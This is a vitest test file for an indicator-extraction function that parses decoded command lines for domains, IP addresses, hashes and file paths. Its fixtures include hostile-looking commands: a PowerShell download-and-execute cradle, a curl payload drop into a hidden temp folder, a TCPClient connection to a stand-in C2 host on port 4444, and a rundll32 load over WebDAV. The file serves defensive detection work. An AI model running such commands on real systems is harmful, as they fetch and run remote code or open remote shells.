import { describe, expect, test } from 'vitest';
import { indicatorsIn } from './correlation.decoded.ts';

const valuesOf = (decoded: string, original = '') => indicatorsIn(decoded, original).map(({ kind, value }) => `${kind} ${value}`);

describe('indicatorsIn', () => {
  test('finds the host and the file of a download', () => {
    expect(valuesOf("IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1')")).toEqual([
      'domain files.example.net',
      'file a.ps1',
    ]);
  });

  test('finds addresses, hashes and paths', () => {
    const sha256 = 'ab'.repeat(32);
    expect(valuesOf(`curl 203.0.113.9:8080 -o /tmp/.x/run; echo ${sha256}; copy C:\\Users\\Public\\svc.exe`)).toEqual([
      'destinationIp 203.0.113.9',
      `hash ${sha256}`,
      'file C:\\Users\\Public\\svc.exe',
      'file /tmp/.x/run',
    ]);
  });

  test('finds a quoted domain and an internal address', () => {
    expect(valuesOf("New-Object Net.Sockets.TCPClient('c2.example.org',4444); ping 10.1.2.3")).toEqual([
      'destinationIp 10.1.2.3',
      'domain c2.example.org',
    ]);
  });

  test('finds IPv6 addresses, without and with brackets', () => {
    expect(valuesOf('ping 2001:DB8::9; curl http://[2001:db8:0:1::a]:8080/x; ssh fd12:3456::1')).toEqual([
      'destinationIp 2001:db8::9',
      'destinationIp 2001:db8:0:1::a',
      'destinationIp fd12:3456::1',
    ]);
  });

  test('takes no time, hardware address, member or loopback for an IPv6 address', () => {
    expect(valuesOf('12:30:45 aa:bb:cc:dd:ee:ff [Convert]::2001 face::dead 2001:db8:: a::b ::1 fe80::1 20010::1')).toEqual([
      'destinationIp 2001:db8::',
    ]);
  });

  test('finds UNC paths with their hosts', () => {
    expect(
      valuesOf(
        'copy \\\\fs01\\c$\\temp\\a.exe . & rundll32 \\\\files.example.net@SSL\\DavWWWRoot\\b.dll,Start & dir \\\\203.0.113.9\\share',
      ),
    ).toEqual([
      'destinationIp 203.0.113.9',
      'domain files.example.net',
      'file \\\\fs01\\c$\\temp\\a.exe',
      'file \\\\files.example.net@SSL\\DavWWWRoot\\b.dll',
      'file \\\\203.0.113.9\\share',
    ]);
  });

  test('takes no pipe, device or escaped path for a UNC path', () => {
    expect(valuesOf('\\\\.\\pipe\\x \\\\?\\C:\\y C:\\\\Users\\\\z %TEMP%\\\\q \\\\host')).toEqual([
      'file C:\\y',
      'file C:\\\\Users\\\\z',
    ]);
  });

  test('finds bare host names', () => {
    expect(
      valuesOf('nslookup c2.example.org; ping EVIL.EXAMPLE.NET & ssh -p 22 me@hop.example.com:2222 --proxy=p.example.co.uk'),
    ).toEqual(['domain c2.example.org', 'domain evil.example.net', 'domain hop.example.com', 'domain p.example.co.uk']);
  });

  test('takes no type, member or document for a bare host name', () => {
    expect(
      valuesOf('using System.Net; new-object system.io; $x = user.name; os.run(1) README.md Net.Sockets 1.2.3 e.g. a.b'),
    ).toEqual([]);
  });

  test('takes no type, version or file for a domain or an address', () => {
    expect(valuesOf("[System.Net.WebClient] 'System.Net.Sockets' Version=4.0.0.0 'setup.sh'")).toEqual(['file setup.sh']);
  });

  test('leaves what the original holds', () => {
    expect(valuesOf("x 'http://203.0.113.9/a'", 'x 203.0.113.9')).toEqual([]);
  });

  test('stays bounded and quick on hostile text', () => {
    const started = performance.now();
    for (const unit of [
      "'a.",
      '//a',
      ' a.com',
      '2001:',
      ' 2001::',
      '\\\\a',
      '\\\\a\\b ',
      '1.1.1.1 ',
      '/tmp/',
      'C:\\',
      'a.exe.',
      'abcdef01',
    ])
      expect(indicatorsIn(unit.repeat(300_000), '').length).toBeLessThanOrEqual(30);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
